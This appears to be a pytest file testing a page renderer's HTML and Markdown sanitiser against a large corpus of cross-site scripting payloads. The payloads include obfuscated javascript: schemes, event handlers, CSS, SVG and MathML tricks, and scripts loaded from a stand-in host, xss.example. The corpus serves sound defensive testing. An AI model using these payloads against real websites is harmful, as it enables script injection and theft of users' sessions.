"""Rendered page HTML carries no executable vector, whatever the source and content type.

The corpus follows the families of the OWASP XSS filter evasion cheat sheet (written here, not
copied): script in every disguise, event handlers, dangerous URL schemes hidden by case,
entities and control characters, CSS, SVG and MathML tricks, frames, objects and forms, parser
confusion (mXSS), and Markdown's own link and image syntax. Each output is parsed with
``html.parser`` and audited independently of the renderer's own allow-list.
"""

import html
import re
from html.parser import HTMLParser

import pytest

from pages.rendering import render
from pages.validation import content_type_for

# What page HTML may contain: written out here, so that widening the renderer's allow-list
# shows up in review as a change of this test.
SAFE_TAGS = frozenset(
    "a abbr acronym area article aside b bdi bdo blockquote br caption center cite code col "
    "colgroup data dd del details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 "
    "header hgroup hr i img ins kbd li map mark nav ol p pre q rp rt rtc ruby s samp small span "
    "strike strong sub summary sup table tbody td th thead time tr tt u ul var wbr".split()
)
ANY_TAG_ATTRIBUTES = {"lang", "title"}
TABLE_CELL = {"align", "char", "charoff", "colspan", "headers", "rowspan", "style"}
SAFE_ATTRIBUTES = {
    "a": {"href", "hreflang", "rel"},
    "bdo": {"dir"},
    "blockquote": {"cite"},
    "code": {"class"},
    "col": {"align", "char", "charoff", "span"},
    "colgroup": {"align", "char", "charoff", "span"},
    "del": {"cite", "datetime"},
    "h1": {"id"},
    "h2": {"id"},
    "h3": {"id"},
    "h4": {"id"},
    "h5": {"id"},
    "h6": {"id"},
    "hr": {"align", "size", "width"},
    "img": {"align", "alt", "height", "src", "width"},
    "ins": {"cite", "datetime"},
    "ol": {"start"},
    "q": {"cite"},
    "table": {"align", "char", "charoff", "summary"},
    "tbody": {"align", "char", "charoff"},
    "td": TABLE_CELL,
    "th": TABLE_CELL | {"scope"},
    "thead": {"align", "char", "charoff"},
    "tr": {"align", "char", "charoff"},
}
URL_ATTRIBUTES = frozenset(
    "href src xlink:href action formaction cite data poster background srcset lowsrc dynsrc "
    "longdesc ping codebase".split()
)
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
INLINE_IMAGE = re.compile(r"data:image/(gif|png|jpeg|webp)[;,]")
CONTROL_OR_SPACE = re.compile(r"[\x00-\x20\x7f-\x9f\s]")
SAFE_STYLE = re.compile(r"text-align:(left|right|center|justify)")
RAW_NEVER = ("<script", "<style", "<iframe", "<object", "<embed", "<form", "<svg", "<math")


def decoded_address(value: str) -> str:
    """The address as a browser could read it: entities decoded (repeatedly, to be strict),
    every control and space character removed, lowercased."""
    previous = None
    while previous != value:
        previous, value = value, html.unescape(value)
    return CONTROL_OR_SPACE.sub("", value).lower()


class Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"event handler {name} on <{tag}>")
            if name not in SAFE_ATTRIBUTES.get(tag, ()) and name not in ANY_TAG_ATTRIBUTES:
                self.problems.append(f"attribute {name} on <{tag}>")
            if name in URL_ATTRIBUTES:
                address = decoded_address(value)
                inline_image = (tag, name) == ("img", "src") and INLINE_IMAGE.match(address)
                if address.startswith(BAD_SCHEMES) and not inline_image:
                    self.problems.append(f"{name}={value!r} on <{tag}>")
            if name == "style" and not SAFE_STYLE.fullmatch(value):
                self.problems.append(f"style={value!r} on <{tag}>")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        if tag not in SAFE_TAGS:
            self.problems.append(f"end tag </{tag}>")

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"declaration {data!r}")


def problems_in(output: str) -> list[str]:
    audit = Audit()
    audit.feed(output)
    audit.close()
    lowered = output.lower()
    return audit.problems + [f"raw {needle}" for needle in RAW_NEVER if needle in lowered]


# Payloads as raw HTML: meant for the HTML editors, and raw HTML is allowed inside Markdown too.
HTML_PAYLOADS = [
    # Script, plain and disguised
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    '<SCRIPT/XSS SRC="http://xss.example/x.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.example/x.js?< B >",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><script href="data:,alert(1)" /></svg>',
    # javascript: in image sources, with case, quotes, backticks and no quotes
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    # Entity-encoded schemes: decimal, padded decimal without semicolons, hex
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088"
    "&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74"
    "&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    # Whitespace and control characters inside or before the scheme
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<a href="&#x01;javascript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="javas&Tab;cript:alert(1)">x</a>',
    '<a href="javascript&colon;alert&lpar;1&rpar;">x</a>',
    '<a href="&#106;avascript&#x3A;alert(1)">x</a>',
    '<a href="  JaVaScRiPt:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBSCRIPT&#58;msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:image/png;base64,iVBORw0KGgo=">a linked inline image is still data:</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<q cite="jav&#x09;ascript:alert(1)">q</q>',
    # Event handlers
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<BODY ONLOAD=alert('XSS')>",
    "<body onpageshow=alert(1)>",
    "<svg/onload=alert('XSS')>",
    "<details open ontoggle=alert(1)>d</details>",
    "<input onfocus=alert(1) autofocus>",
    "<keygen autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>m</marquee>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<div id="x" onmouseover ="alert(1)">d</div>',
    '<p ONCLICK="alert(1)" OnDblClick=alert(2)>p</p>',
    # Other elements that load or run things
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD4=">',
    '<META HTTP-EQUIV="Link" Content="<http://xss.example/x.css>; REL=stylesheet">',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>t</td></tr></TABLE>",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">t</TD></TABLE>",
    # Frames, objects, embeds, forms
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<iframe src=http://xss.example/scriptlet.html <",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
    '<object data="javascript:alert(1)"></object>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
    '<EMBED SRC="http://xss.example/x.swf" AllowScriptAccess="always"></EMBED>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    "<isindex action=javascript:alert(1) type=submit>",
    # CSS: style elements and style attributes
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<STYLE>@import'http://xss.example/x.css';</STYLE>",
    '<STYLE>BODY{-moz-binding:url("http://xss.example/x.xml#xss")}</STYLE>',
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">d</DIV>",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063"
    "\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0027\\0029'\\0029\">d</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">d</DIV>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    '<table><tr><td style="text-align:expression(alert(1))">c</td>'
    '<td style="text-align:left;background:url(javascript:alert(1))">d</td></tr></table>',
    # SVG tricks
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>c</text></a></svg>",
    '<svg><set attributeName="onload" to="alert(1)"/></svg>',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    # MathML tricks and parser confusion (mutation XSS)
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
    "</mtext></math>",
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">c</maction></math>',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">m</mi></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<img alt="<h1>x</h1><img src=x onerror=alert(1)>" src="/ok.png">',
    '<a href="/ok" title="x&quot; onmouseover=&quot;alert(1)">t</a>',
]

# Markdown's own syntax for links and images, with the same schemes.
MARKDOWN_PAYLOADS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    '![x](/ok.png "t\\" onerror=\\"alert(1)")',
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "[ref][r]\n\n[r]: JAVASCRIPT:alert(1) 'title'",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "# <img src=x onerror=alert(1)> heading",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "* <a href='javascript:alert(1)'>item</a>",
    "> <svg onload=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
]

CONTENT_TYPES = ("markdown", "html", "text")


def test_the_corpus_is_large_enough():
    assert len(HTML_PAYLOADS) >= 40
    assert len(HTML_PAYLOADS + MARKDOWN_PAYLOADS) == len(set(HTML_PAYLOADS + MARKDOWN_PAYLOADS))


@pytest.mark.parametrize(
    "bad",
    [
        "<script>alert(1)</script>",
        "<svg><a>x</a></svg>",
        '<img src="x" onerror="alert(1)">',
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href=" &#x01;JAVASCRIPT:alert(1)">x</a>',
        '<a href="&amp;#106;avascript:alert(1)">x</a>',
        '<a href="vbscript:x">x</a>',
        '<a href="data:image/png;base64,AAAA">x</a>',
        '<img src="data:image/svg+xml;base64,AAAA">',
        '<blockquote cite="javascript:alert(1)">q</blockquote>',
        '<p style="color:red">p</p>',
        '<td style="text-align:left;position:fixed">p</td>',
        '<p class="x">p</p>',
        "<!-- c -->",
        "<iframe></iframe>",
    ],
)
def test_the_audit_catches_what_it_looks_for(bad):
    assert problems_in(bad)


def test_the_audit_accepts_what_the_renderer_keeps():
    good = (
        '<h2 id="t">T</h2><p><a href="https://example.com/?a=1&amp;b=2" rel="noopener">e</a>'
        '<img src="data:image/png;base64,AAAA" alt="i"><img src="/x.png"></p>'
        '<table><tr><td style="text-align:right">1</td></tr></table>'
        '<pre><code class="language-py">&lt;script&gt;</code></pre>'
    )
    assert problems_in(good) == []


@pytest.mark.parametrize("content_type", CONTENT_TYPES)
@pytest.mark.parametrize("payload", HTML_PAYLOADS + MARKDOWN_PAYLOADS)
def test_no_executable_vector_survives(payload, content_type):
    rendered = render(payload, content_type, {"min": 1, "max": 6})
    assert problems_in(rendered.html) == [], rendered.html


@pytest.mark.parametrize("content_type", CONTENT_TYPES)
@pytest.mark.parametrize("payload", HTML_PAYLOADS + MARKDOWN_PAYLOADS)
def test_the_output_is_stable_when_sanitised_again(payload, content_type):
    """The sanitised output parses back to itself: nothing for a browser to re-interpret."""
    once = render(payload, content_type, {"min": 1, "max": 6}).html
    assert render(once, "html", {"min": 1, "max": 6}).html == once


@pytest.mark.parametrize(
    "editor", ["markdown", "wysiwyg", "asciidoc", "code", "html", "ckeditor", "unknown"]
)
@pytest.mark.parametrize("payload", HTML_PAYLOADS[::7] + MARKDOWN_PAYLOADS[::5])
def test_every_editor_is_sanitised(editor, payload):
    """Whatever the editor, its content type is one that ``render`` sanitises."""
    content_type = content_type_for(editor)
    assert content_type in CONTENT_TYPES
    assert problems_in(render(payload, content_type).html) == []


@pytest.mark.parametrize(
    ("source", "content_type", "expected"),
    [
        (
            '<img src="data:image/png;base64,iVBORw0KGgo=" alt="shot">',
            "html",
            '<img src="data:image/png;base64,iVBORw0KGgo=" alt="shot">',
        ),
        (
            "![shot](data:image/jpeg;base64,/9j/4AAQ)",
            "markdown",
            '<p><img src="data:image/jpeg;base64,/9j/4AAQ" alt="shot"></p>\n',
        ),
        ('<img src="data:image/svg+xml;base64,PHN2Zz4=">', "html", "<img>"),
        ('<img src="data:text/html,x">', "html", "<img>"),
        (
            '<a href="data:image/png;base64,iVBORw0KGgo=">x</a>',
            "html",
            '<a rel="noopener noreferrer">x</a>',
        ),
    ],
)
def test_inline_raster_images_are_the_only_data_addresses(source, content_type, expected):
    assert render(source, content_type).html == expected


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ('<a href="/docs/x">r</a>', '<a href="/docs/x" rel="noopener noreferrer">r</a>'),
        ('<a href="#top">r</a>', '<a href="#top" rel="noopener noreferrer">r</a>'),
        (
            '<a href="mailto:a@example.com">m</a>',
            '<a href="mailto:a@example.com" rel="noopener noreferrer">m</a>',
        ),
        (
            '<a href="javascript-guide">r</a>',
            '<a href="javascript-guide" rel="noopener noreferrer">r</a>',
        ),
        (
            '<blockquote cite="https://example.com/q">q</blockquote>',
            '<blockquote cite="https://example.com/q">q</blockquote>',
        ),
    ],
)
def test_ordinary_links_are_kept(source, expected):
    assert render(source, "html").html == expected
